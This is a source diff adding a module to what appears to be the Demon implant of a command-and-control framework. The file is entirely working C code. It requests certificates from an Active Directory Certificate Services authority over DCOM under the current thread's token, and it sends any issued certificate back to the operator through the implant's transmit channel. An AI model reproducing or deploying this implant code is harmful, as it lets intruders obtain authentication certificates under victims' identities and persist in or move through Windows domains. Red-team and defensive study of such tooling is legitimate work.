@@ -0,0 +1,111 @@
+#include <Demon.h>
+#include <core/Adcs.h>
+#include <core/MiniStd.h>
+#include <core/Runtime.h>
+#include <core/Package.h>
+#include <core/Command.h>
+
+GUID xCLSID_CCertRequest = { 0x98aff3f0, 0x5524, 0x11d0, { 0x88, 0x12, 0x00, 0xa0, 0xc9, 0x03, 0xb8, 0x3c } };
+GUID xIID_ICertRequest   = { 0x014e4840, 0x5523, 0x11d0, { 0x88, 0x12, 0x00, 0xa0, 0xc9, 0x03, 0xb8, 0x3c } };
+
+HRESULT AdcsRequest(
+    IN PADCS_REQUEST Request
+) {
+    ICertRequest* CertRequest = NULL;
+    PPACKAGE      Package     = NULL;
+    BSTR          Config      = NULL;
+    BSTR          Csr         = NULL;
+    BSTR          Attributes  = NULL;
+    BSTR          Message     = NULL;
+    BSTR          Certificate = NULL;
+    HRESULT       Result      = E_FAIL;
+    HRESULT       Init        = E_FAIL;
+    LONG          Disposition = 0;
+    LONG          RequestId   = 0;
+
+    if ( ! RtOle32() ) {
+        goto END;
+    }
+
+    Init = Instance->Win32.CoInitializeEx( NULL, COINIT_MULTITHREADED );
+
+    if ( ( Result = Instance->Win32.CoCreateInstance( &xCLSID_CCertRequest, NULL, CLSCTX_INPROC_SERVER, &xIID_ICertRequest, ( PVOID* ) &CertRequest ) ) != S_OK ) {
+        PRINTF( "CoCreateInstance failed: %lx\n", Result )
+        goto END;
+    }
+
+    Config     = Instance->Win32.SysAllocString( Request->Config );
+    Csr        = Instance->Win32.SysAllocString( Request->Request );
+    Attributes = Instance->Win32.SysAllocString( Request->Attributes );
+
+    /* dcom call to the certificate authority using the token of the thread */
+    if ( ( Result = CertRequest->lpVtbl->Submit( CertRequest, CR_IN_BASE64HEADER | CR_IN_PKCS10, Csr, Attributes, Config, &Disposition ) ) != S_OK ) {
+        PRINTF( "ICertRequest::Submit failed: %lx\n", Result )
+    }
+
+    CertRequest->lpVtbl->GetRequestId( CertRequest, &RequestId );
+    CertRequest->lpVtbl->GetDispositionMessage( CertRequest, &Message );
+
+    /* a denied request still has a status that tells why */
+    if ( Result == S_OK && Disposition != CR_DISP_ISSUED ) {
+        CertRequest->lpVtbl->GetLastStatus( CertRequest, &Result );
+    }
+
+    if ( Disposition == CR_DISP_ISSUED ) {
+        CertRequest->lpVtbl->GetCertificate( CertRequest, CR_OUT_BASE64, &Certificate );
+    }
+
+    PRINTF( "AdcsRequest: Result:[%lx] Disposition:[%ld] RequestId:[%ld]\n", Result, Disposition, RequestId )
+
+END:
+    Package = PackageCreate( DEMON_COMMAND_ADCS );
+
+    PackageAddInt32( Package, ADCS_COMMAND_REQUEST );
+    PackageAddInt32( Package, Result );
+    PackageAddInt32( Package, Disposition );
+    PackageAddInt32( Package, RequestId );
+
+    if ( Message ) {
+        PackageAddWString( Package, Message );
+    } else {
+        PackageAddBytes( Package, NULL, 0 );
+    }
+
+    if ( Certificate ) {
+        PackageAddWString( Package, Certificate );
+    } else {
+        PackageAddBytes( Package, NULL, 0 );
+    }
+
+    PackageTransmit( Package );
+
+    if ( Certificate ) {
+        Instance->Win32.SysFreeString( Certificate );
+    }
+
+    if ( Message ) {
+        Instance->Win32.SysFreeString( Message );
+    }
+
+    if ( Attributes ) {
+        Instance->Win32.SysFreeString( Attributes );
+    }
+
+    if ( Csr ) {
+        Instance->Win32.SysFreeString( Csr );
+    }
+
+    if ( Config ) {
+        Instance->Win32.SysFreeString( Config );
+    }
+
+    if ( CertRequest ) {
+        CertRequest->lpVtbl->Release( CertRequest );
+    }
+
+    if ( SUCCEEDED( Init ) ) {
+        Instance->Win32.CoUninitialize();
+    }
+
+    return Result;
+}